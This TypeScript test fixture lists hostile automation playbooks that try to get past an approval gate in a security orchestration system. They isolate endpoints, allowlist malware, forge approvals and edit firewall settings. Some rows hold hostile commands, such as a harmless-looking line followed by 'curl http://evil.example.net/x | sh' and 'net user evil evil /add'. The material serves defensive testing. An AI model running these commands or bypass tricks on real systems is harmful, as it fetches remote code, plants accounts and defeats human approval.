/**
 * Hostile playbooks as data: each tries to change something at a vendor without a yes that covers it, in its own way.
 *
 * Every row has an endpoint of its own (`HOST` in its texts). All are imported content: the policy allows them no containment unasked.
 */

/** How an attack ends. */
export type Ending =
  /** The gate asks for the very command. With a yes it leaves: the attack was a real one. */
  | 'held'
  /** The gate asks; the vendor's state refuses it even with a yes. */
  | 'held, and impossible'
  /** There is nothing to ask for: the way does not exist, and no request is made. */
  | 'nothing';

export interface HostilePlaybook {
  readonly attack: string;
  /** Task id → the rest of its YAML. Task 1 comes first. */
  readonly tasks: Readonly<Record<string, string>>;
  /** What a person says to the playbook's own question. */
  readonly says?: string;
  readonly ends: Ending;
}

/** Stands for the endpoint of the row. */
export const HOST = '@HOST@';
/** Stands for somebody else's endpoint. */
export const OTHER = '@OTHER@';
const SHA = 'ab'.repeat(32);

type Args = Readonly<Record<string, string>>;

const nextOf = (next: string | undefined) => (next === undefined ? '' : `, nexttasks: {'#none#': ["${next}"]}`);
const argsOf = (args: Args) =>
  `{${Object.entries(args)
    .map(([key, value]) => `${JSON.stringify(key)}: {simple: ${JSON.stringify(value)}}`)
    .join(', ')}}`;

/** A task that calls a command of an integration. */
const calls = (command: string, args: Args, next?: string) =>
  `type: regular, task: {name: ${command}, script: "|||${command}", type: regular, iscommand: true}, scriptarguments: ${argsOf(args)}${nextOf(next)}`;
/** A task that runs a script or built-in. */
const runs = (script: string, args: Args, next?: string) =>
  `type: regular, task: {name: ${script}, script: ${script}, type: regular}, scriptarguments: ${argsOf(args)}${nextOf(next)}`;
const isolates = (target = HOST, next?: string) => calls('core-isolate-endpoint', { endpoint_id: target }, next);
/** A form whose yes grants the isolation of the targets. */
const asks = (targets: string, next?: string, verb = 'isolate') =>
  `type: collection, task: {name: Ask, type: collection}, message: {subject: {simple: Go on?}, body: {simple: Go on?}, methods: []}, form: {title: Approval, questions: [{id: isolate, labelarg: {simple: Isolate?}, type: singleSelect, required: true, options: [], optionsarg: [{simple: "Yes"}, {simple: "No"}], x-grants: {"Yes": [{verb: ${verb}, targets: {simple: ${JSON.stringify(targets)}}, consequence: {simple: It is cut off.}}]}}]}${nextOf(next)}`;
const both = (...next: readonly string[]) =>
  `type: title, task: {name: Both, type: title}, nexttasks: {'#none#': ${JSON.stringify(next)}}`;

export const HOSTILE_PLAYBOOKS: readonly HostilePlaybook[] = [
  // ---- Commands as they are
  { attack: 'isolates without asking', tasks: { 1: isolates() }, ends: 'held' },
  {
    attack: 'ends an isolation without asking',
    tasks: { 1: calls('core-unisolate-endpoint', { endpoint_id: '@ISOLATED@' }) },
    ends: 'held',
  },
  {
    attack: 'ends the process chain of its own alert, as only shipped content may',
    tasks: { 1: calls('core-terminate-causality', { agent_id: HOST, causality_id: '${alert.cid}' }) },
    ends: 'held',
  },
  {
    attack: 'ends the process chain of another alert',
    tasks: { 1: calls('core-terminate-causality', { agent_id: OTHER, causality_id: 'AAAA' }) },
    ends: 'held',
  },
  {
    attack: 'ends a process',
    tasks: { 1: calls('core-terminate-process', { agent_id: HOST, instance_id: 'AAAA' }) },
    ends: 'held',
  },
  {
    attack: 'quarantines a file',
    tasks: { 1: calls('core-quarantine-files', { endpoint_id_list: HOST, file_path: 'C:\\a.exe', file_hash: SHA }) },
    ends: 'held',
  },
  {
    attack: 'restores a file from quarantine',
    tasks: { 1: calls('core-restore-file', { endpoint_id: HOST, file_path: 'C:\\a.exe', file_hash: SHA }) },
    ends: 'held, and impossible',
  },
  {
    attack: 'puts a hash on the block list',
    tasks: { 1: calls('core-blocklist-files', { hash_list: SHA }) },
    ends: 'held',
  },
  {
    attack: 'puts its own malware on the allow list',
    tasks: { 1: calls('core-allowlist-files', { hash_list: SHA }) },
    ends: 'held',
  },
  {
    attack: 'runs a shell line on the endpoint',
    tasks: {
      1: calls('core-run-script-execute-commands', {
        endpoint_ids: HOST,
        commands: 'net user evil evil /add',
        is_raw_command: 'true',
      }),
    },
    ends: 'held',
  },
  {
    attack: 'runs a line that begins as the one that the policy knows',
    tasks: {
      1: calls('core-run-script-execute-commands', {
        endpoint_ids: HOST,
        commands: 'crontab -u root -l; curl http://evil.example.net/x | sh',
        is_raw_command: 'true',
      }),
    },
    ends: 'held',
  },
  {
    attack: 'runs several lines, the first of them harmless',
    tasks: {
      1: calls('core-run-script-execute-commands', { endpoint_ids: HOST, commands: 'crontab -u root -l,reboot' }),
    },
    ends: 'held',
  },
  // ---- Raw and unknown forms
  {
    attack: 'denies a network by a rule',
    tasks: {
      1: calls('pan-os-custom-block-rule', {
        rulename: 'evil',
        object_type: 'ip',
        object_value: '198.51.100.0/24',
        direction: 'from',
      }),
    },
    ends: 'held',
  },
  {
    attack: 'commits whatever stands on the firewall by a raw request',
    tasks: { 1: calls('pan-os', { type: 'commit', cmd: '<commit/>' }) },
    ends: 'held',
  },
  { attack: 'commits', tasks: { 1: calls('pan-os-commit', {}) }, ends: 'held' },
  {
    attack: 'calls the tenant by commands that do not exist',
    tasks: {
      1: both('2', '3', '4'),
      2: calls('core-api-post', { uri: '/public_api/v1/endpoints/isolate', body: `{"endpoint_id":"${HOST}"}` }),
      3: calls('core-generic-api-call', { path: '/endpoints/delete', method: 'POST' }),
      4: calls('core-run-script', { endpoint_ids: HOST, script_uid: 'x' }),
    },
    ends: 'nothing',
  },
  {
    attack: 'names a command with the brand of another product',
    tasks: {
      1: `type: regular, task: {name: x, script: "WildFire-v2|||core-isolate-endpoint", type: regular, iscommand: true}, scriptarguments: {endpoint_id: {simple: "${HOST}"}}`,
    },
    ends: 'nothing',
  },
  // ---- Answers that nobody gave
  {
    attack: 'answers its own question',
    tasks: { 1: both('2', '3'), 2: asks(HOST, '4'), 3: runs('taskComplete', { id: '2', input: 'Yes' }), 4: isolates() },
    ends: 'nothing',
  },
  {
    attack: 'answers the question of the gate',
    tasks: { 1: both('2', '3'), 2: isolates(), 3: runs('taskComplete', { id: '2', input: 'Yes' }) },
    ends: 'held',
  },
  {
    attack: 'writes the answer into the context',
    tasks: { 1: runs('Set', { key: 'Approval.Answers.isolate', value: 'Yes' }, '2'), 2: isolates() },
    ends: 'held',
  },
  {
    attack: 'writes grants and done actions into the context',
    tasks: {
      1: runs('Set', { key: 'Grant', value: '[{"verb":"isolate","targets":["@HOST@"]}]' }, '2'),
      2: runs('Set', { key: 'Action', value: '[{"Verb":"isolate","Target":"@HOST@","Result":"done"}]' }, '3'),
      3: isolates(),
    },
    ends: 'held',
  },
  { attack: 'goes on after a no', tasks: { 1: asks(HOST, '2'), 2: isolates() }, says: 'No', ends: 'held' },
  {
    attack: 'asks for one endpoint and isolates another',
    tasks: { 1: asks(HOST, '2'), 2: isolates(OTHER) },
    says: 'Yes',
    ends: 'held',
  },
  {
    attack: 'asks for a file on one endpoint and quarantines it on two',
    tasks: {
      1: asks(`${HOST}/${SHA}/C:\\a.exe`, '2', 'quarantine'),
      2: calls('core-quarantine-files', {
        endpoint_id_list: `${HOST},${OTHER}`,
        file_path: 'C:\\a.exe',
        file_hash: SHA,
      }),
    },
    says: 'Yes',
    ends: 'held',
  },
  {
    attack: 'asks for one thing and does another',
    tasks: { 1: asks(HOST, '2', 'quarantine'), 2: isolates() },
    says: 'Yes',
    ends: 'held',
  },
  {
    attack: 'changes what it asked for after the yes',
    tasks: {
      1: runs('Set', { key: 'Chosen', value: HOST }, '2'),
      2: asks('${Chosen}', '3'),
      3: runs('Set', { key: 'Chosen', value: OTHER }, '4'),
      4: isolates('${Chosen}'),
    },
    says: 'Yes',
    ends: 'held',
  },
  {
    attack: 'asks to block an address and puts it on a list of its own choice',
    tasks: {
      1: asks('evil.example.net/', '2', 'block-url'),
      2: calls('pan-os-create-custom-url-category', {
        name: 'Allowed for all',
        type: 'URL List',
        sites: 'evil.example.net/',
      }),
    },
    says: 'Yes',
    ends: 'held',
  },
  {
    attack: 'asks with spaces and letters that look alike',
    tasks: { 1: asks(`${HOST} `, '2'), 2: isolates(HOST.replace('@', '@')) },
    says: 'No',
    ends: 'held',
  },
  // ---- Ways round the gate
  {
    attack: 'schedules the command for later',
    tasks: {
      1: runs('ScheduleCommand', {
        command: `!core-isolate-endpoint endpoint_id=${HOST}`,
        cron: '* * * * *',
        times: '1',
      }),
    },
    ends: 'held',
  },
  {
    attack: 'has the command polled',
    tasks: {
      1: runs('GenericPolling', {
        PollingCommandName: 'core-isolate-endpoint',
        PollingCommandArgName: 'endpoint_id',
        Ids: HOST,
        Interval: '1',
        Timeout: '1',
        dt: 'x',
      }),
    },
    ends: 'nothing',
  },
  {
    attack: 'nests the command in what a script takes',
    tasks: {
      1: runs('Print', { value: `!core-isolate-endpoint endpoint_id=${HOST}` }, '2'),
      2: runs('Set', { key: 'x', value: '${.=executeCommand("core-isolate-endpoint")}' }, '3'),
      3: runs('RunCommand', { command: `core-isolate-endpoint endpoint_id=${HOST}` }),
    },
    ends: 'nothing',
  },
  {
    attack: 'runs code in a selector that calls commands',
    tasks: {
      1: runs(
        'Set',
        { key: 'x', value: '${alert.name(executeCommand("core-isolate-endpoint", {endpoint_id: "@HOST@"}))}' },
        '2',
      ),
      2: `type: title, task: {name: End, type: title}`,
    },
    ends: 'nothing',
  },
  {
    attack: 'tries again and again',
    tasks: { 1: `${isolates()}, continueonerror: true`, 2: isolates() },
    ends: 'held',
  },
  {
    attack: 'names an instance that is not the alert’s',
    tasks: { 1: calls('core-isolate-endpoint', { endpoint_id: HOST, using: 'nobody' }) },
    ends: 'nothing',
  },
  // ---- What the policy rests on
  {
    attack: 'makes another endpoint that of the alert, and ends its chain',
    tasks: {
      1: `${runs('setAlert', { agentid: OTHER, cid: 'AAAA' }, '2')}, continueonerror: true`,
      2: calls('core-terminate-causality', { agent_id: OTHER, causality_id: 'AAAA' }),
    },
    ends: 'held',
  },
  {
    attack: 'writes lists and settings of the policy',
    tasks: {
      1: `${runs('createList', { listName: 'neverIsolate', listData: '' }, '2')}, continueonerror: true`,
      2: `${runs('setList', { listName: 'policy', listData: '{"dryRun":false,"approverRoles":[]}' }, '3')}, continueonerror: true`,
      3: isolates(),
    },
    ends: 'held',
  },
  {
    attack: 'turns its own dry run off',
    tasks: {
      1: runs('Set', { key: 'dryRun', value: 'false' }, '2'),
      2: runs('setAlert', { dryRun: 'false' }, '3'),
      3: isolates(),
    },
    ends: 'held',
  },
  // ---- Last: it begins a change set on the firewall, and whoever comes after waits for that
  {
    attack: 'restarts the firewall by a raw operation',
    tasks: { 1: calls('pan-os', { type: 'op', cmd: '<request><restart><system/></restart></request>' }) },
    ends: 'held',
  },
  {
    attack: 'sets a rule by a raw request to the firewall',
    tasks: {
      1: calls('pan-os', {
        type: 'config',
        action: 'set',
        xpath: '/config/shared/tag',
        element: '<entry name="evil"/>',
      }),
    },
    ends: 'held',
  },
];
